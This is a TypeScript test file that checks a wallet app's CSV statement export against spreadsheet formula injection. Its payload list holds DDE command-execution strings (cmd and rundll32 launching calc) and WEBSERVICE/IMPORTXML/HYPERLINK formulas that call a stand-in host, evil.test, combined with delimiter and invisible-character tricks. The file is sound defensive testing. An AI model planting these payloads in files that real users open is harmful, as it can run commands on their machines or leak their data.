import { expect, test } from 'vitest'
import { renderCsv } from '../../wallet/statements/csv.ts'
import { csvLine } from '../../wallet/statements/csv-cell.ts'
import { readCsv } from '../../wallet/testing/csv-reader.ts'
import { proofFigure } from '../proof-scale.ts'

/** Attack T17: text that a spreadsheet would treat as a formula, in every cell of an export. */
const payloads = [
  '1+1',
  'SUM(A1:A9)',
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://evil.test","x")',
  'IMPORTXML("http://evil.test","//a")',
  'WEBSERVICE("http://evil.test")',
  'DDE("cmd";"/C calc";"1")',
  'A1&A2',
  "10+20+cmd|'/C calc'!Z0",
  "rundll32|'URL.dll,OpenURL calc.exe'!A",
]
const starters = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  '\uFF1D',
  '\uFF0B',
  '\uFF0D',
  '\uFF20',
  '\u2212',
]
const breaks = [
  (formula: string) => formula,
  (formula: string) => `  ${formula}`,
  (formula: string) => `x;${formula}`,
  (formula: string) => `x;  ${formula}`,
  (formula: string) => `x",${formula}`,
  (formula: string) => `"${formula}`,
  (formula: string) => `x\t${formula}`,
  (formula: string) => `x\r\n${formula}`,
  (formula: string) => `x\u2028${formula}`,
  (formula: string) => `x|${formula}`,
  (formula: string) => `\u200B${formula}`,
  (formula: string) => `\uFEFF${formula}`,
]
const attacks = starters.flatMap((starter) =>
  payloads.flatMap((payload) => breaks.map((broken) => broken(starter + payload))),
)

const decimal = /^-?\d+(\.\d+)?$/
/** Whether a spreadsheet would calculate a cell; invisible characters and quotes before it do not help. */
const isFormula = (cell: string) =>
  !decimal.test(cell) && /^[\s"\p{Cf}\p{Cc}]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20\u2212]/u.test(cell)

/** Formulas that spreadsheets of all countries would find in a file. */
function formulasIn(file: string): string[] {
  return [',', ';', '\t', '|'].flatMap((separator) =>
    readCsv(file, separator).flatMap((row) => row.filter(isFormula)),
  )
}

type Line = (cells: readonly string[]) => string
const found = (line: Line) =>
  attacks.filter((attack) => formulasIn(line(['Recharge', attack, '1', 'end'])).length > 0)

test('has no formula in any cell, with any separator', () => {
  expect(attacks.length).toBeGreaterThan(1_000)
  expect(found(csvLine)).toEqual([])
  proofFigure('formulas in exported CSV', `${attacks.length} texts × 4 separators, 0 formulas`)
})

test('leaves harmless text unchanged', () => {
  const plain = [
    'Recharge',
    '-12.50000001',
    '0',
    '2026-11-20T22:58:00+08:00',
    'ฝากเงิน',
    'a "b", c',
    '',
  ]
  expect(readCsv(csvLine(plain))).toEqual([plain])
})

test('has no formula in a statement with attacking names', async () => {
  const kinds = attacks.slice(0, 600)
  const entries = kinds.map((kind, index) => ({
    at: index,
    kind,
    orderNo: kind,
    amount: -1n as never,
    after: 0n as never,
  }))
  const file = await renderCsv(
    {
      lang: 'en-us',
      uid: '=1+1',
      holder: '=1+1',
      beginAt: 0,
      endAt: 1,
      writtenAt: 1,
      isSandbox: true,
      accounts: kinds
        .map((kind) => ({
          kind,
          currency: kind,
          opening: 0n as never,
          sum: 0n as never,
          closing: 0n as never,
          entries,
        }))
        .slice(0, 3),
    },
    () => undefined,
  )
  expect(formulasIn(Buffer.from(file).toString())).toEqual([])
})

test.each<[string, Line]>([
  ['cells are not changed', (cells) => `${cells.join(',')}\r\n`],
  [
    'cells are only quoted',
    (cells) => `${cells.map((cell) => `"${cell.replaceAll('"', '""')}"`).join(',')}\r\n`,
  ],
  [
    'an apostrophe is added only at the start of a cell',
    (cells) =>
      `${cells.map((cell) => `"${cell.replace(/^(?=[=+\-@])/, "'").replaceAll('"', '""')}"`).join(',')}\r\n`,
  ],
])('detects a successful attack: %s', (_, hole) => {
  expect(found(hole).length).toBeGreaterThan(100)
})
